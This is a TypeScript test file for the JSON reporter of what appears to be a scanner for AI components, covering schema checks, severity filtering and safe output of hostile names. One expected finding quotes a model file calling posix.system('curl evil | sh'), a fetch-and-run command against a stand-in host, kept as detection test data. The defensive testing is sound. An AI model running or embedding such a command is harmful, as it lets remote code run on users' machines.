import { describe, expect, test } from 'vitest';
import { HOSTILE, hostileReport } from '../../fixtures/reports/hostile.ts';
import { emptyReport, richReport } from '../../fixtures/reports/rich.ts';
import { fixtureTexts } from '../../fixtures/reports/texts.ts';
import { checkReport } from '../../src/reporters/json/check.ts';
import { render } from '../../src/reporters/json/index.ts';
import { expectTame } from './tame.ts';

interface Shown {
  readonly components: readonly { readonly ref: string; readonly name: string }[];
  readonly findings: readonly { readonly ruleId: string; readonly title: string; readonly message: string; readonly args: object }[];
}

const parsed = (text: string): Shown => JSON.parse(text) as Shown;

describe('JSON report', () => {
  test.each([
    ['rich', richReport],
    ['empty', emptyReport],
    ['hostile', hostileReport],
  ])('a %s report follows the schema that ships', (_, report) => {
    expect(checkReport(parsed(render(report, { texts: fixtureTexts })))).toBeUndefined();
  });

  test.each([
    ['an unknown field', (report: Record<string, unknown>) => ({ ...report, surprise: 1 }), 'additional properties'],
    [
      'a wrong severity',
      (report: Record<string, unknown>) => ({ ...report, findings: [{ ...(report['findings'] as object[])[0], severity: 'bad' }] }),
      '/findings/0/severity',
    ],
    [
      'a component without evidence',
      (report: Record<string, unknown>) => ({ ...report, components: [{ ...(report['components'] as object[])[0], occurrences: [] }] }),
      '/components/0/occurrences',
    ],
  ])('the schema refuses %s', (_, change, problem) => {
    const report = JSON.parse(render(richReport, {})) as Record<string, unknown>;
    expect(checkReport(change(report))).toContain(problem);
  });

  test('components have their ref, findings title and sentence', () => {
    const { components, findings } = parsed(render(richReport, { texts: fixtureTexts }));
    expect(components[0]).toMatchObject({ ref: 'agent:support-agent', kind: 'agent', name: 'Support Agent' });
    expect(findings[0]).toMatchObject({
      title: 'Model file runs code when it is loaded',
      message: "Loading this file calls posix.system('curl evil | sh').",
    });
  });

  test('a rule without text is told by its id and facts', () => {
    const { findings } = parsed(render(richReport, {}));
    expect(findings.find((each) => each.ruleId === 'unpinned-image')).toMatchObject({
      title: 'Unpinned image',
      message: 'unpinned-image: image = vllm/vllm-openai, tag = latest',
    });
  });

  test('floors take findings out, suppressed ones stay', () => {
    const ids = parsed(render(richReport, { minSeverity: 'high' })).findings.map((each) => each.ruleId);
    expect(ids).toEqual(['unsafe-artifact', 'remote-code-path', 'vulnerable-library', 'hard-coded-credential']);
    expect(parsed(render(richReport, { minConfidence: 'medium' })).findings).toHaveLength(richReport.findings.length - 1);
  });

  test('hostile names come back as they were, and none acts on a terminal', () => {
    const text = render(hostileReport, {});
    expectTame(text);
    const { components, findings } = parsed(text);
    for (const name of Object.values(HOSTILE)) expect(components.map((each) => each.name)).toContain(`prompts/${name}`);
    expect(Object.hasOwn(findings.find((each) => Object.hasOwn(each.args, '__proto__'))?.args ?? {}, '__proto__')).toBe(true);
  });

  test('64-bit sizes in facts do not break it', () => {
    const [first] = richReport.artifacts;
    if (first === undefined) throw new Error('fixture');
    const text = render({ ...richReport, artifacts: [{ ...first, facts: { offset: 2n ** 63n } }] }, { validate: true });
    expect(text).toContain('"9223372036854775808"');
  });
});
